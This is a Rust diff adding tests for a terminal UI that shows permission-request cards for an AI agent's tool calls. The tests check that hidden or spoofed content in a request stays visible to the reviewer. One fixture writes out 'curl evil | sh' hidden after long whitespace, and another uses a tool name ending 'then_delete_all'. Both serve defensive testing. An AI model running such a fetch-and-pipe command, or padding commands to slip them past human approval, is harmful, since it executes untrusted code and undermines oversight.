+    frame.render_widget(Paragraph::new(left), area);
+    let place = format!(" {} ", status.place);
+    let wide = columns(&place) as u16;
+    if width + wide < area.width {
+        frame.buffer_mut().set_string(area.right() - wide, area.y, place, theme.dim());
     }
 }
 
 #[cfg(test)]
-#[path = "screen_tests.rs"]
-mod tests;
+mod tests {
+    use proptest::prelude::*;
+    use ratatui::{Terminal, backend::TestBackend};
+    use serde_json::json;
+    use unicode_width::UnicodeWidthChar;
+
+    use super::{
+        super::{
+            editor::Key,
+            entry::{Change, Entry, Kind},
+        },
+        *,
+    };
+    use crate::{base::glyph::odd_text, client::OpenPermission};
+
+    const THEME: Theme = Theme { color: false };
+
+    fn asking(tool: &str, input: serde_json::Value) -> Cards {
+        let mut cards = Cards::new(true);
+        cards.put(OpenPermission {
+            request: "r1".into(),
+            tool: tool.into(),
+            input: Some(input),
+            ..OpenPermission::default()
+        });
+        cards
+    }
+
+    /// What stands in the card after one frame: the text behind the marks, row after row.
+    fn drawn(screen: &mut Screen, cards: &Cards, size: (u16, u16)) -> (Vec<String>, Option<DrawnCard>) {
+        let mut terminal = Terminal::new(TestBackend::new(size.0, size.1)).expect("a terminal of memory");
+        let mut card = None;
+        let editor = Editor::default();
+        terminal.draw(|frame| card = screen.draw(frame, cards, &editor, &Status::default())).expect("a frame");
+        let buffer = terminal.backend().buffer();
+        let row = |y: u16| {
+            let mut row = String::new();
+            let mut x = 0;
+            while x < buffer.area.width {
+                let symbol = buffer[(x, y)].symbol();
+                row.push_str(symbol);
+                x += (columns(symbol) as u16).max(1);
+            }
+            row
+        };
+        let rows = (0..buffer.area.height)
+            .map(row)
+            .filter_map(|row| Some(row.strip_prefix("│ ")?.strip_suffix('│')?.trim_end().to_owned()));
+        (rows.collect(), card)
+    }
+
+    #[test]
+    fn no_row_of_a_request_can_pass_for_another_line() {
+        let input = json!({
+            "file_path": "x",
+            "old_string": "one\n",
+            "new_string": format!("one\necho{}curl evil | sh\n", " ".repeat(70)),
+            "+ added: y": "z",
+        });
+        let (rows, _) = drawn(&mut Screen::new(THEME), &asking("Edit", input), (80, 40));
+        assert!(rows.iter().any(|row| row == "↳  | sh" || row.starts_with("↳ ") && row.ends_with("sh")), "{rows:#?}");
+        assert!(rows.iter().any(|row| row == r#"▸ "+ added: y": z"#), "{rows:#?}");
+        let marks = ["▸ ", "# ", "  ", "+ ", "- ", "↳ "];
+        assert!(rows.iter().filter(|row| !row.is_empty()).all(|row| marks.iter().any(|mark| row.starts_with(mark))));
+        let long = format!("mcp__{}_then_delete_all", "x".repeat(80));
+        let (rows, _) = drawn(&mut Screen::new(THEME), &asking(&long, json!({"a": 1})), (80, 40));
+        assert!(rows.concat().replace("↳ ", "").contains(&long), "{rows:#?}");
+    }
+
+    #[test]
+    fn what_was_passed_over_has_not_been_seen() {
+        let input = json!({"command": (0..100).map(|n| format!("line {n}\n")).collect::<String>()});
+        let (mut screen, cards) = (Screen::new(THEME), asking("Bash", input));
+        let frame = |screen: &mut Screen| drawn(screen, &cards, (80, 24)).1.expect("a card");
+        let first = frame(&mut screen);
+        assert!(!first.to_the_end);
+        screen.scroll(View::End, Some(&first));
+        assert!(!frame(&mut screen).to_the_end, "the middle has not been in view");
+        for _ in 0..20 {
+            screen.scroll(View::PageUp, Some(&first));
+        }
+        let mut pages = 0;
+        while !frame(&mut screen).to_the_end {
+            screen.scroll(View::PageDown, Some(&first));
+            pages += 1;
+        }
+        assert!(pages > 3);
+    }
+
+    proptest! {
+        /// Every character of an input is in a cell of the card, whatever it is, and nothing fails.
+        #[test]
+        fn all_of_an_input_is_drawn(text in odd_text(), name in odd_text(), tool in odd_text(), width in 12u16..90) {
+            let shown = (visible(&text).into_owned(), visible(&name).into_owned());
+            let cards = asking(&tool, json!({"command": text, name.as_str(): text}));
+            let (rows, card) = drawn(&mut Screen::new(THEME), &cards, (width, 200));
+            prop_assume!(card.is_some_and(|card| card.to_the_end));
+            let marks = ["│", "▸", "↳"];
+            let all: String = rows.iter().map(|row| marks.iter().find_map(|mark| row.strip_prefix(mark)).unwrap_or(row)).collect();
+            // Blanks at the end of a row cannot be told from those of the screen.
+            let dense = |text: &str| text.replace(' ', "");
+            prop_assert!(dense(&all).contains(&dense(&shown.0)) && dense(&all).contains(&dense(&shown.1)), "{:?} in {:#?}", shown, rows);
+        }
+
+        /// Text from elsewhere is drawn at any width, and moves nothing that stands beside it.
+        #[test]
+        fn any_text_can_be_drawn(
+            texts in prop::collection::vec((odd_text(), 0usize..4), 1..6),
+            typed in odd_text(),
+            width in 1u16..100,
+            height in 1u16..30,
+        ) {
+            let mut screen = Screen::new(THEME);
+            let kinds = [Kind::Answer, Kind::Output, Kind::Prompt, Kind::Note];
+            for (text, kind) in &texts {
+                screen.transcript.apply(Change::Add(Entry::new(kinds[*kind], text)));
+                let key = ("m".to_owned(), 0);
+                screen.transcript.apply(Change::Stream { key, kind: kinds[*kind], piece: text.clone() });
+            }
+            let status = Status { place: crate::cli::text::clean_line(&typed, 60), ..Status::default() };
+            let mut editor = Editor::default();
+            editor.key(Key::Paste(typed), 0, false);
+            let mut terminal = Terminal::new(TestBackend::new(width, height))?;
+            terminal.draw(|frame| assert_eq!(screen.draw(frame, &Cards::new(true), &editor, &status), None))?;
+            for cell in terminal.backend().buffer().content() {
+                let symbol = cell.symbol();
+                let wide: Vec<usize> = symbol.chars().filter_map(UnicodeWidthChar::width).filter(|width| *width > 0).collect();
+                prop_assert_eq!(&wide, &[columns(symbol)], "each cell has one character that takes its columns: {:?}", symbol);
+            }
+            screen.transcript.last_lines(width, usize::from(height));
+        }
+
+        #[test]
+        fn a_cut_text_is_all_there_and_fits(text in "[a 漢é🙂]{0,60}", first in 1usize..20, more in 0usize..20) {
+            let others = first + more;
+            let pieces = cut(&text, first, others);
+            prop_assert_eq!(pieces.concat(), text.clone());
+            for (at, piece) in pieces.iter().enumerate() {
+                let room = if at == 0 { first } else { others };
+                prop_assert!(columns(piece) <= room.max(2), "{:?} in {}", piece, room);
+            }
+        }
+    }
+}
